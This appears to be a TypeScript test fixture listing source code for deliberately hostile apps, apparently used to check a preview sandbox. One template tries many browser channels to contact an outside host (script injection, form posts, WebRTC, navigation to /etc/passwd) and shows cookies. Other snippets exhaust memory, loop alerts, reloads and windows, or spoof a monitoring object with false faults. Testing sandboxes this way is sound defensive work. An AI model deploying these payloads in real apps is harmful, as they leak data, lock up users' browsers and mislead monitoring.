/** Sources of apps that mean harm, to be looked at all the same. */

/** An app that asks for `at` (host and port) in every way a page can. */
export const reachesOut = (at: string): string => `
      const at = "http://${at}/";
      const tried: (() => unknown)[] = [
        () => fetch(at), () => fetch(at, { mode: "no-cors" }), () => navigator.sendBeacon(at, "x"), () => new WebSocket("ws://${at}/"), () => new EventSource(at),
        () => { new Image().src = at; }, () => { const s = document.createElement("script"); s.src = at; document.head.append(s); },
        () => { const f = document.createElement("iframe"); f.src = at; document.body.append(f); },
        () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = at; document.head.append(l); },
        () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = at; document.head.append(l); },
        () => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = at; document.head.append(l); },
        () => { const f = document.createElement("form"); f.action = at; f.method = "post"; document.body.append(f); f.submit(); },
        () => window.open(at), () => { const a = document.createElement("a"); a.href = at; a.download = "x"; document.body.append(a); a.click(); },
        () => new Worker(URL.createObjectURL(new Blob(["fetch('" + at + "')"]))), () => navigator.serviceWorker.register("/sw.js"),
        () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${at}" }, { urls: "turn:${at}?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); void c.createOffer().then((o) => c.setLocalDescription(o)); },
        () => { location.href = "file:///etc/passwd"; }, () => { location.href = at; },
      ];
      for (const one of tried) { try { void Promise.resolve(one()).catch(() => 0); } catch {} }
      function App() { return <h1>{document.cookie || "harm"}</h1> }`;

/** What it does, and its source. */
export const HARMS = [
  ["fills the memory", "const kept: Uint8Array[] = []; function App(): never { for (;;) kept.push(new Uint8Array(5e7).fill(1)) }"],
  ["sends more than anybody can take", 'function App() { for (let i = 0; i < 50; i++) console.error("x".repeat(2e8)); return <p>x</p> }'],
  ["asks without end", "function App() { for (;;) alert(1) }"],
  ["reloads without end", "function App() { location.reload(); return <p>x</p> }"],
  [
    "fills the page",
    'function App() { for (;;) document.body.append(...Array.from({ length: 10_000 }, () => Object.assign(document.createElement("p"), { textContent: "x".repeat(99) }))) }',
  ],
  [
    "answers falsely",
    'Object.defineProperty(window, "appmonSight", { get: () => ({ started: null, visit() {}, settle() {}, faults: () => [{ message: "x".repeat(3e8), files: [] }] }) }); function App() { return <p>x</p> }',
  ],
  ["opens windows without end", 'function App() { for (let i = 0; i < 200; i++) window.open("/" + i); return <p>x</p> }'],
] as const;
